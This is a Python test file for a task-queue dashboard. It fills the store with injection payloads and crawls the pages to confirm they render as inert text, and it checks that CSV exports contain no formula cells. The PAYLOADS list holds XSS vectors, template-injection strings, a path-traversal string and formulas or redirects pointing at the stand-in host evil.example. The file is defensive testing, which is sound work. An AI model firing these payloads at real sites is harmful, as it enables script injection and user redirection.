"""Names, arguments, results, errors, log lines and reasons that want to be more than text are text, on every page.

The pages are found as a person finds them: by following links from the first one. In each an HTML parser looks for
elements and attributes that only a payload can have made.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any
from urllib.parse import parse_qs, urlsplit

import msgspec
import pytest
from gate import asking
from msgspec import Raw
from starlette.testclient import TestClient

from horarium import Horarium
from horarium.app.switches import Switches
from horarium.dashboard import Open, Role
from horarium.dashboard.access import Tokens
from horarium.dashboard.audit import Entry, write
from horarium.dashboard.rooms import ALL
from horarium.dashboard.spreadsheet import csv_of
from horarium.engines.records import MaintenancePolicy, Member
from horarium.outcome import ErrorRecord, Failed, Settlement, Succeeded

PAYLOADS = (
    "<pwned>",
    "</td></tr></table><pwned>",
    "<script>pwned()</script>",
    "'\"><img src=x onerror=pwned()>",
    '" onmouseover="pwned()" pwned="',
    "' onfocus='pwned()' autofocus pwned='",
    "` onclick=pwned() pwned=`",
    '" hx-on:click="pwned()" hx-get="//evil.example" pwned="',
    "</textarea></title></script></style><svg onload=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x>",
    "javascript:pwned()//",
    "data:text/html,<script>pwned()</script>",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>",
    "<!--<pwned>--><![CDATA[<pwned>]]>",
    "&lt;pwned&gt;&#60;pwned&#62;",
    "\u202e\u2066<pwned>\x1b[31m\r\n<pwned>",
    "<pwned\u00a0onload=pwned()>\ufeff<\u200bpwned>",
    "+ADw-pwned+AD4-",
    "=HYPERLINK(\"//evil.example\")",
    "../../../etc/passwd%00<pwned>",
    '{"a": "</script><pwned>"}',
    '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
    "<iframe srcdoc='<pwned>'><form action=//evil.example><input type=submit>",
    '<a href="//evil.example" target=_blank>pwned</a><style>*{display:none}</style>',
)  # fmt: skip
MOST_PAGES = 150
SEEN = ("title", "aria-label", "placeholder", "alt")
UNSEEN = "\x00\x07\x1b\x7f\u202e\u2066"  # what would act on a terminal, or turn a text around
LEADS = ("href", "src", "action", "formaction", "hx-get", "hx-post", "hx-sse:connect")
# Elements that no page of ours has; of a script's, ours come from a file.
FOREIGN = {"pwned", "iframe", "object", "embed", "base", "style", "img-x", "animate", "applet", "frame"}


@pytest.fixture
def hostile(shop: Horarium) -> Horarium:
    """A store in which everything that anybody can name is named so."""
    engine = shop.engine
    for number, text in enumerate(PAYLOADS):
        shop.send_task(text, (text, {text: [text]}), {text: text}, queue=f"queue {text}", headers={"note": text})
        shop.send_task(text, (text,), queue="hostile")
        now = engine.now()
        known = {"name": f"{text}@{text}", "host": text, "queues": ("hostile", text), "tasks": (text,), "pool": text}
        known: Any = {"name": f"{text}@{text}", "host": text, "queues": ("hostile", text), "tasks": (text,)}
        child = Member(owner=f"child-{number}", kind="child", **known)
        worker = Member(owner=f"worker-{number}", kind="worker", **known)
        engine.queue.renew([child, worker], now=now, lease=60.0)
        [delivery] = engine.queue.claim(("hostile",), child.owner, 1, now=now)
        error = ErrorRecord(class_path=text, text=text, traceback=f"Traceback\n{text}\n")
        settlement = Settlement(
            id=delivery.message.id,
            owner=delivery.owner,
            fence=delivery.fence,
            outcome=Failed(error=error) if number % 2 else Succeeded(result=Raw(msgspec.json.encode({text: [text]}))),
            worker=text,
            started=now,
            ended=now,
            logs=(text,),
        )
        engine.queue.settle([settlement], now=now, policy=MaintenancePolicy())
        write(engine, Entry(at=now, who=text, via=text, action=text, about=text, text=text, reason=text, before=text))
        Switches(shop.connection).pause_queue(f"queue {text}", reason=text, by=text)
        if text.isprintable():
            Tokens(shop).add(text[:100], Role.VIEWER, by=text, now=now)
    return shop


class Reader(HTMLParser):
    """Gathers where a page leads, and what in it is not ours."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.faults: list[str] = []
        self.read: list[str] = []  # what a person sees

    def handle_data(self, data: str) -> None:
        self.read.append(data)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        said = f"<{tag} {given}>"
        if tag in FOREIGN or (tag == "script" and not (given.get("src") or "").startswith("/static/")):
            self.faults.append(said)
        if tag == "meta" and "http-equiv" in given:
            self.faults.append(said)
        if len(given) != len(attrs):
            self.faults.append(f"twice in {said}")
        for name, value in attrs:
            if name.startswith(("on", "hx-on", "srcdoc", "style")) or "pwned" in name or not name.isascii():
                self.faults.append(f"{name} in {said}")
            if name in LEADS and not _is_ours(value):
                self.faults.append(f"{name} in {said}")
        self.read += [value for name, value in attrs if name in SEEN and value]
        if tag == "a" and given.get("href"):
            self.links.append(str(given["href"]))


def _is_ours(address: str | None) -> bool:
    """Tell whether an address is a path of this site, or a place in the page."""
    given = address or ""
    return given.startswith("#") or (given.startswith("/") and not given.startswith(("//", "/\\")))


def faults_in(text: str) -> tuple[list[str], list[str]]:
    reader = Reader()
    reader.feed(text)
    reader.close()
    return reader.faults, reader.links


def unseen_in(text: str) -> list[str]:
    """Return the texts that a person reads of a page and cannot see whole. (What a form carries along is not read.)"""
    reader = Reader()
    reader.feed(text)
    return [each for each in reader.read if set(each) & set(UNSEEN)]


def crawl(client: TestClient, starts: list[str]) -> Iterator[tuple[str, str]]:
    """Yield pages and their text, each shape of a query and each place once or thrice."""
    waiting, seen, shapes = list(starts), set(starts), dict[str, int]()
    while waiting and len(seen) < 2000 and sum(shapes.values()) < MOST_PAGES:
        url = waiting.pop(0)
        parts = urlsplit(url)
        shape = f"{parts.path.split('/')[1]} {parts.path.count('/')} {sorted(parse_qs(parts.query))}"
        if shapes.get(shape, 0) >= 6:
            continue
        shapes[shape] = shapes.get(shape, 0) + 1
        answer = client.get(url)
        assert answer.status_code < 500, url
        if not answer.headers["content-type"].startswith("text/html"):
            assert answer.headers.get("content-disposition", "attachment").startswith("attachment"), url
            continue
        yield url, answer.text
        for link in faults_in(answer.text)[1]:
            if link not in seen and link.startswith("/"):
                seen.add(link)
                waiting.append(link)


def test_whatever_a_store_holds_no_page_has_an_element_or_attribute_of_it(hostile: Horarium) -> None:
    client = asking(hostile, Open())
    rooms = [route.path for room in ALL for route in room.routes if not route.is_change and "{" not in route.path]
    read: list[str] = []
    for url, text in crawl(client, [path for path in rooms if path != "/login"]):
        faults, _ = faults_in(text)
        assert faults == [], url
        assert unseen_in(text) == [], url
        read.append(url)
    assert len(read) > 12, read
    assert any("/runs/" in url for url in read)


def test_what_is_asked_of_a_page_is_text_in_its_answer(hostile: Horarium) -> None:
    client = asking(hostile, Open())
    paths = [route.path for room in ALL for route in room.routes if not route.is_change]
    for path in paths[:: max(1, len(paths) // 12)]:
        for text in PAYLOADS[:10:3]:
            query = dict.fromkeys(("q", "after", "day", "then", "link", "view", "from", "state", "name"), text)
            answer = client.get(
                path.replace("{id}", "x"), params=query, headers={"Cookie": "horarium_told=%2B%3Cpwned%3E"}
            )
            assert answer.status_code < 500, path
            if answer.headers["content-type"].startswith("text/html"):
                assert faults_in(answer.text)[0] == [], path


def test_the_reader_itself_sees_what_it_is_there_for() -> None:
    for payload in (
        '<p onclick="x">',
        "<pwned>",
        "<script>x</script>",
        '<a href="javascript:x">',
        '<a href="//evil.example">',
    ):
        assert faults_in(payload)[0], payload
    assert faults_in('<script src="/static/x/a.js"></script><a href="/runs">&lt;pwned&gt;</a><a href="#x">')[0] == []


def test_no_cell_of_a_table_is_a_formula() -> None:
    rows = [[text, 1, -2.5, None] for text in (*PAYLOADS, "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1")]
    read = list(csv.reader(io.StringIO(csv_of(("a", "b", "c", "d"), rows).decode("utf-8-sig"))))
    assert len(read) == len(rows) + 1
    for (was, *_), (cell, *rest) in zip(rows, read[1:], strict=True):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
        assert cell.replace("\\x00", "\x00") in (was, f"'{was}")
        assert rest == ["1", "-2.5", ""]
